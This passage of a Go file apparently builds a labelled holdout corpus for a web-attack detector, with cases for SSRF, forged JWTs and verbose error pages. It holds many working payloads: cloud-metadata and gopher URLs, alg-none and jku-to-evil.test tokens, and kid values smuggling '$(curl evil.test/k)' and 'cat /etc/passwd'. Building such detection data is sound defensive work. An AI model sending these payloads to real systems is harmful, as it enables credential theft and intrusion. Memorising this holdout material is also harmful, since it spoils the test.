	// loopback, plain and in alternative spellings
	"http://127.0.0.1/",
	"http://localhost:8080/admin",
	"https://localhost/server-status",
	"http://2130706433/",
	"http://0177.0.0.1/",
	"http://0x7f000001/",
	"http://0x7f.0x0.0x0.0x1/",
	"http://127.1/",
	"http://0/",
	"http://0.0.0.0:8080/actuator/env",
	"http://[::1]:6379/",
	"http://[::]:80/",
	"http://[::ffff:127.0.0.1]/",
	"http://[0:0:0:0:0:ffff:127.0.0.1]/admin",
	"http://127.0.0.1:22/",
	"http://localhost:2375/containers/json",
	"http://127.0.0.1:10250/pods",
	"http://①②⑦.⓪.⓪.①/",
	// cloud metadata
	"http://169.254.169.254/latest/meta-data/iam/security-credentials/",
	"http://169.254.169.254/latest/user-data",
	"http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
	"http://metadata/computeMetadata/v1/project/project-id",
	"http://169.254.169.254/metadata/instance?api-version=2021-02-01",
	"http://[fd00:ec2::254]/latest/meta-data/",
	"http://2852039166/latest/meta-data/",
	"http://0251.0376.0251.0376/latest/meta-data/",
	"http://0xa9fea9fe/latest/api/token",
	"http://[::ffff:a9fe:a9fe]/latest/meta-data/",
	"http://169.254.170.2/v2/credentials/",
	"http://100.100.100.200/latest/meta-data/",
	"http://instance-data/latest/meta-data/",
	// private, CGNAT and link-local networks
	"http://10.0.0.5:9200/_cat/indices",
	"http://192.168.1.1/admin",
	"http://172.16.0.10:8500/v1/kv/?recurse",
	"http://100.64.0.1/",
	"http://169.254.1.1/",
	"http://10.1.2.3:8080/manage/health",
	"https://192.168.0.10:8443/",
	"http://172.31.255.1:5601/api/status",
	// userinfo and fragment tricks, DNS names that resolve inside
	"http://evil.test@127.0.0.1/",
	"http://images.example.com@169.254.169.254/latest/meta-data/",
	"http://127.0.0.1#@images.example.com/",
	"http://127.0.0.1.nip.io/",
	"http://169.254.169.254.nip.io/latest/meta-data/",
	"http://localtest.me:8080/",
	"http://spoofed.burpcollaborator.net.127.0.0.1.nip.io/",
	"http://kubernetes.default.svc/api/v1/namespaces/default/secrets",
	// dangerous schemes
	"file:///etc/passwd",
	"file:///c:/windows/win.ini",
	"file://localhost/proc/self/environ",
	"gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
	"gopher://10.0.0.7:25/_HELO%20localhost",
	"dict://127.0.0.1:11211/stat",
	"ldap://10.0.0.3:389/dc=corp,dc=local",
	"ldap://127.0.0.1:389/%0astats",
	"http://127.0.0.1:9000/minio/admin/v3/info",
	"http://[::ffff:7f00:1]:8500/v1/agent/self",
	"http://017700000001/",
	"http://0x7f.1/",
	"https://10.0.0.1.nip.io/api",
	"http://100.127.255.254:9090/metrics",
}

func holdSSRFCases() []holdCase {
	names := []string{"url", "webhook_url", "callback", "avatar_url", "image_url", "target", "feed", "endpoint", "source", "link", "import_url", "uri"}
	var out []holdCase
	for i, v := range holdSSRFValues {
		name := holdPick(names, i*5)
		host := holdPick(holdHosts, i)
		var c holdCase
		switch i % 9 {
		case 0:
			c = holdGET(fmt.Sprintf("https://%s/api/v1/preview?%s=%s", host, name, holdQE(v)))
		case 1:
			c = holdJSONReq("POST", fmt.Sprintf("https://%s/api/v1/webhooks", host),
				fmt.Sprintf(`{"%s":%s,"events":["order.created","order.paid"],"active":true}`, name, holdJS(v)))
		case 2:
			c = holdJSONReq("PATCH", fmt.Sprintf("https://%s/api/v1/users/me", host),
				fmt.Sprintf(`{"profile":{"%s":%s,"bio":"Coffee lover"}}`, name, holdJS(v)))
		case 3:
			c = holdFormReq("POST", fmt.Sprintf("https://%s/api/v1/imports", host),
				fmt.Sprintf("%s=%s&format=csv", name, holdQE(v)))
		case 4:
			c = holdJSONReq("POST", fmt.Sprintf("https://%s/api/v2/integrations", host),
				fmt.Sprintf(`{"integration":{"type":"slack","config":{"webhook":{"%s":%s}}}}`, name, holdJS(v)))
		case 5:
			c = holdJSONReq("POST", fmt.Sprintf("https://%s/api/v1/products/bulk-images", host),
				fmt.Sprintf(`{"images":["https://cdn.example.com/p/1.jpg",%s]}`, holdJS(v)))
		case 6:
			c = holdGET(fmt.Sprintf("https://%s/api/v1/proxy/image?%s=%s&w=200", host, name, holdBrowserEsc(v)))
		case 7:
			c = holdJSONReq("POST", fmt.Sprintf("https://%s/graphql", host),
				fmt.Sprintf(`{"query":"mutation($u: String!) { importFeed(url: $u) { id status } }","variables":{"u":%s}}`, holdJS(v)))
		default:
			c = holdJSONReq("POST", fmt.Sprintf("https://%s/api/v1/reports/pdf", host),
				fmt.Sprintf(`{"template":"invoice","options":{"%s":%s,"landscape":false}}`, name, holdJS(v)))
		}
		out = append(out, holdAttackResp(c, i).label(holdSSRF))
	}
	// host-valued parameters and routing headers
	extra := []holdCase{
		holdGET("https://api.example.test/api/v1/tools/ping?host=127.0.0.1%3A6379"),
		holdJSONReq("POST", "https://api.example.test/api/v1/integrations/smtp/test", `{"smtp_host":"10.0.0.25","smtp_port":25,"from":"shop@example.com"}`),
		holdGET("https://api.example.test/api/v1/status", "X-Forwarded-Host", "169.254.169.254"),
		holdGET("https://api.example.test/api/v1/status", "X-Forwarded-Host", "localhost:8500"),
		holdGET("https://api.example.test/api/v1/fetch?url=http%253A%252F%252F169.254.169.254%252Flatest%252Fmeta-data%252F"),
		holdGET("https://api.example.test/api/v1/fetch?url=http%3A%2F%2F%5B%3A%3Affff%3A7f00%3A1%5D%3A8080%2F"),
	}
	for j, c := range extra {
		out = append(out, holdAttackResp(c, j).label(holdSSRF))
	}
	return out
}

// ---------------------------------------------------------------------------
// detect.auth.jwt

const (
	holdNow       = 1795132800 // 2026-11-20T08:00:00Z, the corpus' first second
	holdIat       = holdNow - 1200
	holdExp       = holdNow + 86400
	holdExpired   = holdNow - 3*86400
	holdNotBefore = 1798761600 // 2027-01-01
)

func holdB64(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }

// holdJWT makes a compact JWT. sig "hs" signs with HMAC-SHA256 under a fixed
// secret; "rs" writes a 256-byte RSA-sized signature (not verifiable, no key
// is given); "" leaves the signature empty; anything else is used as is.
func holdJWT(header, claims, sig string) string {
	in := holdB64(header) + "." + holdB64(claims)
	switch sig {
	case "":
		return in + "."
	case "hs":
		m := hmac.New(sha256.New, []byte("holdout-hs256-secret-not-a-real-one"))
		m.Write([]byte(in))
		return in + "." + base64.RawURLEncoding.EncodeToString(m.Sum(nil))
	case "rs":
		var s []byte
		h := sha256.Sum256([]byte(in))
		for len(s) < 256 {
			s = append(s, h[:]...)
			h = sha256.Sum256(h[:])
		}
		return in + "." + base64.RawURLEncoding.EncodeToString(s[:256])
	}
	return in + "." + sig
}

func holdClaims(sub string, extra string, iat, exp int64) string {
	c := fmt.Sprintf(`{"sub":"%s","iss":"https://accounts.example.test","aud":"api.example.test","iat":%d,"exp":%d`, sub, iat, exp)
	if extra != "" {
		c += "," + extra
	}
	return c + "}"
}

const holdRSAModulus = "0vx7agoebGcQSuuPiLJXZptN9nndrQmbXEps2aiAFbWhM78LhWx4cbbfAAtVT86zwu1RK7aPFFxuhDR1L6tSoc_BJECPebWKRXjBZCiFV4n3oknjhMstn64tZ_2W-5JsGY4Hc5n9yBXArwl93lqt7_RN5w6Cf0h4QyQ5v-65YGjQR0_FDW2QvzqY368QQMicAtaSqzs8KJZgnYb9c7d0zgdAZHzu6qMQvRL5hajrn1n91CbOpbISD08qNLyrdkt-bFTWhAI4vMQFh6WeZu0fM4lFd2NcRwr3XPksINHaQ-G_xBniIqbw0Ls1jF44-csFCur-kEgU8awapJzKnqDKgw"

func holdJWTCases() []holdCase {
	type tok struct {
		header, claims, sig string
	}
	admin := `"role":"admin","email":"admin@example.test"`
	user := `"role":"customer","scope":"orders:read profile"`
	toks := []tok{
		// alg none, in the spellings libraries failed to reject
		{`{"alg":"none","typ":"JWT"}`, holdClaims("1001", admin, holdIat, holdExp), ""},
		{`{"alg":"None","typ":"JWT"}`, holdClaims("1002", admin, holdIat, holdExp), ""},
		{`{"alg":"NONE","typ":"JWT"}`, holdClaims("usr_8842", user, holdIat, holdExp), ""},
		{`{"alg":"nOnE","typ":"JWT"}`, holdClaims("1003", admin, holdIat, holdExp), ""},
		{`{"typ":"JWT","alg":"none"}`, holdClaims("42", `"roles":["admin","billing"]`, holdIat, holdExp), ""},
		{`{"alg":"none"}`, holdClaims("1004", user, holdIat, holdExp), ""},
		{`{"alg":"none","typ":"JWT"}`, holdClaims("1005", user, holdIat, holdExp), "ZmFrZQ"},
		{`{"alg":"none","kid":"2026-03-key_1"}`, holdClaims("1006", admin, holdIat, holdExp), ""},
		// a real algorithm with the signature stripped
		{`{"alg":"HS256","typ":"JWT"}`, holdClaims("1007", admin, holdIat, holdExp), ""},
		{`{"alg":"RS256","typ":"JWT","kid":"2026-03-key_1"}`, holdClaims("1008", admin, holdIat, holdExp), ""},
		{`{"alg":"ES256","typ":"JWT"}`, holdClaims("1009", user, holdIat, holdExp), ""},
		{`{"alg":"HS512","typ":"JWT"}`, holdClaims("1010", user, holdIat, holdExp), ""},
		// expired tokens answered 2xx (replay of an old token)
		{`{"alg":"HS256","typ":"JWT"}`, holdClaims("2001", user, holdExpired-3600, holdExpired), "hs"},
		{`{"alg":"RS256","typ":"JWT","kid":"2026-03-key_1"}`, holdClaims("2002", user, holdExpired-900, holdExpired), "rs"},
		{`{"alg":"HS256","typ":"JWT"}`, holdClaims("2003", admin, 1767225600, 1767229200), "hs"},
		{`{"alg":"RS256","typ":"JWT"}`, holdClaims("2004", user, holdNow-7200, holdNow-3600), "rs"},
		{`{"alg":"HS256","typ":"JWT"}`, holdClaims("2005", user, holdNow-600, holdNow-60), "hs"},
		{`{"alg":"RS256","typ":"JWT","kid":"k1"}`, holdClaims("2006", admin, 1735689600, 1735693200), "rs"},
		{`{"alg":"ES256","typ":"JWT"}`, holdClaims("2007", user, holdExpired-86400, holdExpired), "rs"},
		{`{"alg":"HS256","typ":"JWT"}`, holdClaims("2008", user, holdNow-100000, holdNow-90000), "hs"},
		// not yet valid (nbf in the future) answered 2xx
		{`{"alg":"HS256","typ":"JWT"}`, holdClaims("2101", user+fmt.Sprintf(`,"nbf":%d`, holdNotBefore), holdIat, holdNotBefore+3600), "hs"},
		{`{"alg":"RS256","typ":"JWT"}`, holdClaims("2102", admin+fmt.Sprintf(`,"nbf":%d`, holdNotBefore), holdIat, holdNotBefore+86400), "rs"},
		{`{"alg":"HS256","typ":"JWT"}`, holdClaims("2103", user+fmt.Sprintf(`,"nbf":%d`, holdNow+86400*30), holdNow+86400*30, holdNow+86400*31), "hs"},
		// kid with path traversal, SQL and shell syntax
		{`{"alg":"HS256","typ":"JWT","kid":"../../../../../../dev/null"}`, holdClaims("3001", admin, holdIat, holdExp), "hs"},
		{`{"alg":"HS256","typ":"JWT","kid":"/dev/null"}`, holdClaims("3002", admin, holdIat, holdExp), "hs"},
		{`{"alg":"HS256","kid":"../../public/css/main.css"}`, holdClaims("3003", admin, holdIat, holdExp), "hs"},
		{`{"alg":"HS256","kid":"keys/../../../../proc/sys/kernel/randomize_va_space"}`, holdClaims("3004", admin, holdIat, holdExp), "hs"},
		{`{"alg":"HS256","kid":"..\\..\\..\\windows\\win.ini"}`, holdClaims("3005", user, holdIat, holdExp), "hs"},
		{`{"alg":"HS256","typ":"JWT","kid":"' UNION SELECT 'secret' -- "}`, holdClaims("3006", admin, holdIat, holdExp), "hs"},
		{`{"alg":"HS256","kid":"x' OR '1'='1"}`, holdClaims("3007", admin, holdIat, holdExp), "hs"},
		{`{"alg":"HS256","kid":"1; DROP TABLE keys--"}`, holdClaims("3008", user, holdIat, holdExp), "hs"},
		{`{"alg":"HS256","kid":"key1|/usr/bin/uname"}`, holdClaims("3009", admin, holdIat, holdExp), "hs"},
		{`{"alg":"HS256","kid":"$(curl evil.test/k)"}`, holdClaims("3010", admin, holdIat, holdExp), "hs"},
		{`{"alg":"HS256","kid":"key-2026; cat /etc/passwd"}`, holdClaims("3011", admin, holdIat, holdExp), "hs"},
		{`{"alg":"RS256","kid":"` + "`id`" + `"}`, holdClaims("3012", user, holdIat, holdExp), "rs"},
		// jku / x5u pointing at attacker or internal hosts
		{`{"alg":"RS256","typ":"JWT","jku":"https://evil.test/.well-known/jwks.json","kid":"attacker"}`, holdClaims("4001", admin, holdIat, holdExp), "rs"},
		{`{"alg":"RS256","jku":"http://127.0.0.1:8080/jwks.json"}`, holdClaims("4002", admin, holdIat, holdExp), "rs"},
		{`{"alg":"RS256","jku":"http://169.254.169.254/latest/meta-data/"}`, holdClaims("4003", user, holdIat, holdExp), "rs"},
		{`{"alg":"RS256","jku":"https://accounts.example.test@evil.test/.well-known/jwks.json"}`, holdClaims("4004", admin, holdIat, holdExp), "rs"},
		{`{"alg":"RS256","jku":"http://localhost/.well-known/jwks.json","kid":"1"}`, holdClaims("4005", admin, holdIat, holdExp), "rs"},
		{`{"alg":"RS256","jku":"https://accounts.example.test.evil.test/jwks.json"}`, holdClaims("4006", admin, holdIat, holdExp), "rs"},
		{`{"alg":"RS256","jku":"https://raw.githubusercontent.example/attacker/keys/main/jwks.json"}`, holdClaims("4007", admin, holdIat, holdExp), "rs"},
		{`{"alg":"RS256","jku":"http://10.0.0.12/keys.json"}`, holdClaims("4008", user, holdIat, holdExp), "rs"},
		{`{"alg":"RS256","x5u":"https://attacker.example.net/cert.pem"}`, holdClaims("4101", admin, holdIat, holdExp), "rs"},
		{`{"alg":"RS256","x5u":"http://10.0.0.8/cert.pem"}`, holdClaims("4102", admin, holdIat, holdExp), "rs"},
		{`{"alg":"RS256","x5u":"http://[::1]/cert.pem","kid":"k"}`, holdClaims("4103", user, holdIat, holdExp), "rs"},
		{`{"alg":"RS256","x5u":"file:///etc/ssl/certs/ca-certificates.crt"}`, holdClaims("4104", admin, holdIat, holdExp), "rs"},
		{`{"alg":"RS256","x5u":"http://192.168.10.5:8000/x.crt"}`, holdClaims("4105", admin, holdIat, holdExp), "rs"},
		// embedded jwk (CVE-2018-0114 style self-signed key)
		{`{"alg":"RS256","typ":"JWT","jwk":{"kty":"RSA","e":"AQAB","kid":"attacker","n":"` + holdRSAModulus + `"}}`, holdClaims("5001", admin, holdIat, holdExp), "rs"},
		{`{"alg":"RS256","jwk":{"kty":"RSA","e":"AQAB","use":"sig","n":"` + holdRSAModulus + `"}}`, holdClaims("5002", user, holdIat, holdExp), "rs"},
		{`{"alg":"ES256","jwk":{"kty":"EC","crv":"P-256","x":"MKBCTNIcKUSDii11ySs3526iDZ8AiTo7Tu6KPAqv7D4","y":"4Etl6SRW2YiLUrN5vfvVHuhp7x8PxltmWWlbbM4IFyM"}}`, holdClaims("5003", admin, holdIat, holdExp), "rs"},
		{`{"alg":"EdDSA","jwk":{"kty":"OKP","crv":"Ed25519","x":"11qYAYKxCrfVS_7TyWQHOg7hcvPapiMlrwIaaPcHURo"}}`, holdClaims("5004", admin, holdIat, holdExp), "rs"},
		{`{"alg":"HS256","jwk":{"kty":"oct","k":"YXR0YWNrZXItY2hvc2VuLWtleQ"}}`, holdClaims("5005", admin, holdIat, holdExp), "hs"},
		{`{"alg":"RS256","kid":"2026-03-key_1","jwk":{"kty":"RSA","e":"AQAB","n":"` + holdRSAModulus + `"}}`, holdClaims("5006", admin, holdIat, holdExp), "rs"},
	}
	// a few extra combos so every kind shows on several endpoints
	toks = append(toks,
		tok{`{"alg":"none","typ":"JWT"}`, holdClaims("1011", `"scope":"admin:all"`, holdIat, holdExp), ""},
		tok{`{"alg":"HS256","typ":"JWT"}`, holdClaims("2009", admin, holdExpired-3600, holdExpired), "hs"},
		tok{`{"alg":"HS256","kid":"../../../../../../../../dev/null"}`, holdClaims("3013", `"role":"superuser"`, holdIat, holdExp), "hs"},
		tok{`{"alg":"RS256","jku":"http://2130706433/jwks.json"}`, holdClaims("4009", admin, holdIat, holdExp), "rs"},
		tok{`{"alg":"none"}`, `{"sub":"1012","role":"admin"}`, ""},
		tok{`{"alg":"none","typ":"JWT"}`, holdClaims("1013", `"scp":["admin","orders:write"]`, holdIat, holdExp), ""},
		tok{`{"alg":"HS256","typ":"JWT"}`, holdClaims("1014", `"role":"admin"`, holdIat, holdExp), ""},
		tok{`{"alg":"RS256","typ":"JWT","kid":"2026-03-key_1"}`, holdClaims("2010", user, holdExpired-7200, holdExpired-3600), "rs"},
		tok{`{"alg":"HS256","kid":"../../../../../../etc/hostname"}`, holdClaims("3014", admin, holdIat, holdExp), "hs"},
		tok{`{"alg":"HS256","kid":"0 UNION SELECT 'AAAA'"}`, holdClaims("3015", admin, holdIat, holdExp), "hs"},
		tok{`{"alg":"RS256","jku":"http://[::ffff:127.0.0.1]:8080/.well-known/jwks.json"}`, holdClaims("4010", admin, holdIat, holdExp), "rs"},
		tok{`{"alg":"RS256","x5u":"https://evil.test/x.crt","kid":"2026-03-key_1"}`, holdClaims("4106", admin, holdIat, holdExp), "rs"},
		tok{`{"alg":"PS256","jwk":{"kty":"RSA","e":"AQAB","n":"` + holdRSAModulus + `"}}`, holdClaims("5007", `"role":"owner"`, holdIat, holdExp), "rs"},
	)
	endpoints := []struct{ method, u, body, rbody string }{
		{"GET", "https://api.example.test/api/v1/users/me", "", `{"id":%q,"email":"user@example.test","role":"customer"}`},
		{"GET", "https://api.example.test/api/v1/admin/users?page=1", "", `{"items":[{"id":"1001","email":"a@example.test"}],"total":1}`},
		{"GET", "https://api.example.test/api/v2/orders?status=open", "", `{"items":[{"id":71002,"total":"49.90"}],"next":null}`},
		{"DELETE", "https://api.example.test/api/v1/products/1842", "", ``},
		{"POST", "https://billing.example.test/api/v1/refunds", `{"order_id":71002,"amount":"49.90"}`, `{"id":"rf_01","status":"pending"}`},
		{"GET", "https://accounts.example.test/api/v1/sessions", "", `{"sessions":[{"id":"s_1","ua":"Firefox"}]}`},
		{"PATCH", "https://api.example.test/api/v1/users/1001", `{"role":"admin"}`, `{"id":"1001","role":"admin"}`},
		{"GET", "https://api.example.test/graphql?query=%7Bme%7Bid%20email%7D%7D", "", `{"data":{"me":{"id":"1001","email":"user@example.test"}}}`},
	}
	var out []holdCase
	for i, t := range toks {
		e := endpoints[i%len(endpoints)]
		scheme := "Bearer "
		if i%9 == 4 {
			scheme = "bearer "
		}
		c := holdReq(e.method, e.u, e.body, "Authorization", scheme+holdJWT(t.header, t.claims, t.sig))
		if e.body != "" {
			c = c.with("Content-Type", "application/json")
		}
		rb := e.rbody
		if strings.Contains(rb, "%q") {
			rb = fmt.Sprintf(rb, fmt.Sprint(1000+i))
		}
		status := 200
		switch {
		case e.method == "DELETE":
			status = 204
		case e.method == "POST":
			status = 201
		}
		out = append(out, c.resp(status, rb).label(holdJWTDet))
	}
	return out
}

// ---------------------------------------------------------------------------
// detect.misconfig.verbose: stack traces, SQL errors, debug pages

type holdVerboseBody struct {
	status int
	ct     string
	body   string
}

var holdVerboseBodies = []holdVerboseBody{
	// Go
	{500, "text/plain; charset=utf-8", "panic: runtime error: invalid memory address or nil pointer dereference\n[signal SIGSEGV: segmentation violation code=0x1 addr=0x18 pc=0x6f3a2c]\n\ngoroutine 1842 [running]:\ngithub.com/acme/shop/internal/api.(*OrderHandler).Get(0xc000214000, {0x9c4e80, 0xc0003a2000}, 0xc000418300)\n\t/src/internal/api/orders.go:87 +0x1cc\nnet/http.HandlerFunc.ServeHTTP(0xc0000a6b40, {0x9c4e80, 0xc0003a2000}, 0xc000418300)\n\t/usr/local/go/src/net/http/server.go:2166 +0x29\n"},
	{500, "application/json", `{"error":"runtime error: index out of range [3] with length 3","stack":"goroutine 77 [running]:\nruntime/debug.Stack()\n\t/usr/local/go/src/runtime/debug/stack.go:26 +0x5e\nmain.recoverer.func1()\n\t/app/middleware.go:41 +0x85\npanic({0x8a1e20?, 0xc00001c1f8?})\n\t/usr/local/go/src/runtime/panic.go:770 +0x132\nmain.(*Cart).Total(...)\n\t/app/cart.go:118"}`},
	{500, "text/plain", "2026/11/20 08:14:02 http: panic serving 198.51.100.14:52344: assignment to entry in nil map\ngoroutine 5521 [running]:\nnet/http.(*conn).serve.func1()\n\t/usr/local/go/src/net/http/server.go:1898 +0xbe\npanic({0x7c2f40?, 0x8e1b30?})\n\t/usr/local/go/src/runtime/panic.go:770 +0x132\nexample.com/billing/invoice.(*Service).Create(...)\n\t/build/invoice/service.go:203 +0x3f1"},
	// Java / Spring / Tomcat
	{500, "application/json", `{"timestamp":"2026-11-20T08:10:11.402+00:00","status":500,"error":"Internal Server Error","trace":"java.lang.NullPointerException: Cannot invoke \"com.acme.shop.model.Customer.getId()\" because \"customer\" is null\n\tat com.acme.shop.api.OrderController.create(OrderController.java:57)\n\tat java.base/jdk.internal.reflect.DirectMethodHandleAccessor.invoke(DirectMethodHandleAccessor.java:103)\n\tat org.springframework.web.method.support.InvocableHandlerMethod.doInvoke(InvocableHandlerMethod.java:255)\n","path":"/api/v1/orders"}`},
	{500, "text/html;charset=utf-8", `<!doctype html><html lang="en"><head><title>HTTP Status 500 – Internal Server Error</title></head><body><h1>HTTP Status 500 – Internal Server Error</h1><hr class="line" /><p><b>Type</b> Exception Report</p><p><b>Message</b> Request processing failed</p><p><b>Exception</b></p><pre>jakarta.servlet.ServletException: Request processing failed: java.lang.IllegalStateException: No primary or single unique constructor found
	org.springframework.web.servlet.FrameworkServlet.processRequest(FrameworkServlet.java:1022)
	jakarta.servlet.http.HttpServlet.service(HttpServlet.java:590)
</pre><hr class="line" /><h3>Apache Tomcat/10.1.16</h3></body></html>`},
	{400, "application/json", `{"message":"JSON parse error: Cannot deserialize value of type ` + "`java.lang.Long`" + ` from String \"abc\": not a valid ` + "`java.lang.Long`" + ` value","exception":"org.springframework.http.converter.HttpMessageNotReadableException","trace":"org.springframework.http.converter.HttpMessageNotReadableException: JSON parse error\n\tat org.springframework.http.converter.json.AbstractJackson2HttpMessageConverter.readJavaType(AbstractJackson2HttpMessageConverter.java:406)\n\tat com.fasterxml.jackson.databind.ObjectMapper._readMapAndClose(ObjectMapper.java:4825)"}`},
	{500, "text/html", `<html><body><h1>Whitelabel Error Page</h1><p>This application has no explicit mapping for /error, so you are seeing this as a fallback.</p><div id='created'>Fri Nov 20 08:12:44 UTC 2026</div><div>There was an unexpected error (type=Internal Server Error, status=500).</div><div style='white-space:pre-wrap;'>org.hibernate.LazyInitializationException: could not initialize proxy [com.acme.Order#7] - no Session
	at org.hibernate.proxy.AbstractLazyInitializer.initialize(AbstractLazyInitializer.java:165)
	at com.acme.shop.api.OrderController.get(OrderController.java:88)</div></body></html>`},
	// Python / Django / Flask
	{500, "text/plain", "Traceback (most recent call last):\n  File \"/usr/local/lib/python3.12/site-packages/flask/app.py\", line 1473, in wsgi_app\n    response = self.full_dispatch_request()\n  File \"/app/api/views.py\", line 42, in get_order\n    return jsonify(order[\"customer_id\"])\nKeyError: 'customer_id'\n"},
	{500, "text/html; charset=utf-8", `<!DOCTYPE html><html lang="en"><head><meta name="robots" content="NONE,NOARCHIVE"><title>OperationalError at /api/v1/orders/</title></head><body><div id="summary"><h1>OperationalError at /api/v1/orders/</h1><pre class="exception_value">no such column: orders_order.coupon_id</pre><table class="meta"><tr><th>Django Version:</th><td>4.2.7</td></tr><tr><th>Exception Location:</th><td>/usr/local/lib/python3.11/site-packages/django/db/backends/sqlite3/base.py, line 328, in execute</td></tr></table></div><div id="explanation"><p>You’re seeing this error because you have <code>DEBUG = True</code> in your Django settings file.</p></div></body></html>`},
	{500, "text/html; charset=utf-8", `<!doctype html><html><head><title>KeyError: 'sku' // Werkzeug Debugger</title><script src="?__debugger__=yes&amp;cmd=resource&amp;f=debugger.js"></script><script>var CONSOLE_MODE = false, EVALEX = true, SECRET = "Xb3kq9Lw0aPz";</script></head><body><div class="debugger"><h1>KeyError</h1><div class="detail"><p class="errormsg">KeyError: 'sku'</p></div><div class="traceback"><h3>Traceback <em>(most recent call last)</em></h3><ul><li><div class="frame"><h4>File <cite class="filename">"/app/shop/cart.py"</cite>, line <em class="line">61</em>, in <code class="function">add_item</code></h4></div></li></ul></div></div></body></html>`},
	{422, "application/json", `{"detail":"Traceback (most recent call last):\n  File \"/srv/app/routers/users.py\", line 88, in update_user\n    user.age = int(payload['age'])\nValueError: invalid literal for int() with base 10: 'twenty'"}`},
	// .NET
	{500, "text/plain", "System.NullReferenceException: Object reference not set to an instance of an object.\n   at Shop.Api.Controllers.OrdersController.Get(Int32 id) in C:\\src\\Shop.Api\\Controllers\\OrdersController.cs:line 41\n   at lambda_method12(Closure , Object , Object[] )\n   at Microsoft.AspNetCore.Mvc.Infrastructure.ActionMethodExecutor.SyncObjectResultExecutor.Execute(IActionResultTypeMapper mapper, ObjectMethodExecutor executor, Object controller, Object[] arguments)\n"},
	{500, "text/html; charset=utf-8", `<html><head><title>Runtime Error</title></head><body bgcolor="white"><span><H1>Server Error in '/' Application.<hr width=100% size=1 color=silver></H1><h2><i>Object reference not set to an instance of an object.</i></h2></span><b>Exception Details: </b>System.NullReferenceException: Object reference not set to an instance of an object.<br><br><b>Stack Trace:</b><br><br><pre>[NullReferenceException: Object reference not set to an instance of an object.]
   Shop.Web.Api.CartController.Post(CartItem item) in D:\build\Shop.Web\Api\CartController.cs:57
   System.Web.Http.Controllers.ReflectedHttpActionDescriptor.ExecuteAsync(HttpControllerContext controllerContext) +112
</pre><b>Version Information:</b>&nbsp;Microsoft .NET Framework Version:4.0.30319; ASP.NET Version:4.8.4465.0</body></html>`},
	{500, "application/problem+json", `{"type":"https://tools.ietf.org/html/rfc7231#section-6.6.1","title":"An error occurred while processing your request.","status":500,"detail":"System.InvalidOperationException: Sequence contains no elements\r\n   at System.Linq.ThrowHelper.ThrowNoElementsException()\r\n   at Billing.Services.InvoiceService.GetLatest(Guid customerId) in /src/Billing/Services/InvoiceService.cs:line 112","traceId":"00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-00"}`},
	// Node.js / Express
	{500, "text/html; charset=utf-8", "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n<title>Error</title>\n</head>\n<body>\n<pre>TypeError: Cannot read properties of undefined (reading &#39;id&#39;)<br> &nbsp; &nbsp;at /app/src/routes/orders.js:34:21<br> &nbsp; &nbsp;at Layer.handle [as handle_request] (/app/node_modules/express/lib/router/layer.js:95:5)<br> &nbsp; &nbsp;at next (/app/node_modules/express/lib/router/route.js:149:13)</pre>\n</body>\n</html>\n"},
	{500, "application/json", `{"message":"ENOENT: no such file or directory, open '/app/uploads/invoices/INV-2026-0042.pdf'","stack":"Error: ENOENT: no such file or directory, open '/app/uploads/invoices/INV-2026-0042.pdf'\n    at Object.openSync (node:fs:596:3)\n    at Object.readFileSync (node:fs:464:35)\n    at /app/dist/controllers/invoice.js:58:28"}`},
	{200, "application/json", `{"errors":[{"message":"Cannot return null for non-nullable field Product.price.","locations":[{"line":3,"column":5}],"path":["product","price"],"extensions":{"code":"INTERNAL_SERVER_ERROR","exception":{"stacktrace":["Error: Cannot return null for non-nullable field Product.price.","    at completeValue (/app/node_modules/graphql/execution/execute.js:594:13)","    at resolveField (/app/src/resolvers/product.ts:41:11)"]}}}],"data":null}`},
	// PHP / Laravel / Symfony
	{500, "text/html; charset=UTF-8", "<br />\n<b>Fatal error</b>:  Uncaught Error: Call to a member function fetch() on bool in /var/www/html/api/order.php:23\nStack trace:\n#0 /var/www/html/api/index.php(41): getOrder('17')\n#1 {main}\n  thrown in <b>/var/www/html/api/order.php</b> on line <b>23</b><br />\n"},
	{200, "text/html; charset=UTF-8", "<br />\n<b>Warning</b>:  mysqli_fetch_assoc() expects parameter 1 to be mysqli_result, bool given in <b>/var/www/html/lib/db.php</b> on line <b>88</b><br />\n{\"items\":[]}"},
	{500, "application/json", `{"message":"SQLSTATE[42S22]: Column not found: 1054 Unknown column 'discount_code' in 'field list' (SQL: select discount_code from orders where id = 77)","exception":"Illuminate\\Database\\QueryException","file":"/var/www/vendor/laravel/framework/src/Illuminate/Database/Connection.php","line":760,"trace":[{"file":"/var/www/vendor/laravel/framework/src/Illuminate/Database/Connection.php","line":720,"function":"runQueryCallback","class":"Illuminate\\Database\\Connection","type":"->"}]}`},
	{500, "text/html; charset=UTF-8", `<!DOCTYPE html><html><head><title>Symfony\Component\HttpKernel\Exception\NotFoundHttpException: No route found (500 Internal Server Error)</title></head><body><div class="exception-message-wrapper"><h1 class="break-long-words exception-message">Call to undefined method App\Entity\Order::getCoupon()</h1></div><div class="trace trace-as-html"><span class="trace-class">App\Controller\OrderController</span><span class="trace-type">-></span><span class="trace-method">show</span>() in <a class="trace-file-path">src/Controller/OrderController.php</a> (line 44)</div></body></html>`},
	// Ruby / Rails
	{500, "text/plain", "NoMethodError (undefined method `name' for nil:NilClass):\n\napp/controllers/api/v1/orders_controller.rb:12:in `show'\nactionpack (7.1.2) lib/action_controller/metal/basic_implicit_render.rb:6:in `send_action'\n"},
	{500, "text/html; charset=utf-8", `<!DOCTYPE html><html lang="en"><head><title>Action Controller: Exception caught</title></head><body><header><h1>ActiveRecord::RecordNotFound in Api::V1::UsersController#show</h1></header><div id="container"><h2>Couldn't find User with 'id'=abc</h2><div class="source"><div class="info">Extracted source (around line #18):</div></div><p><code>Rails.root: /home/deploy/shop</code></p><div id="Application-Trace"><pre><code>app/controllers/api/v1/users_controller.rb:18:in ` + "`set_user'" + `</code></pre></div></div></body></html>`},
	// SQL error text: MySQL, PostgreSQL, SQLite, MSSQL, Oracle
	{500, "application/json", `{"error":"You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near 'Brien' ORDER BY created_at DESC LIMIT 20' at line 1"}`},
	{500, "application/json", `{"error":"Error 1064 (42000): You have an error in your SQL syntax; check the manual that corresponds to your MariaDB server version for the right syntax to use near ''' at line 1"}`},
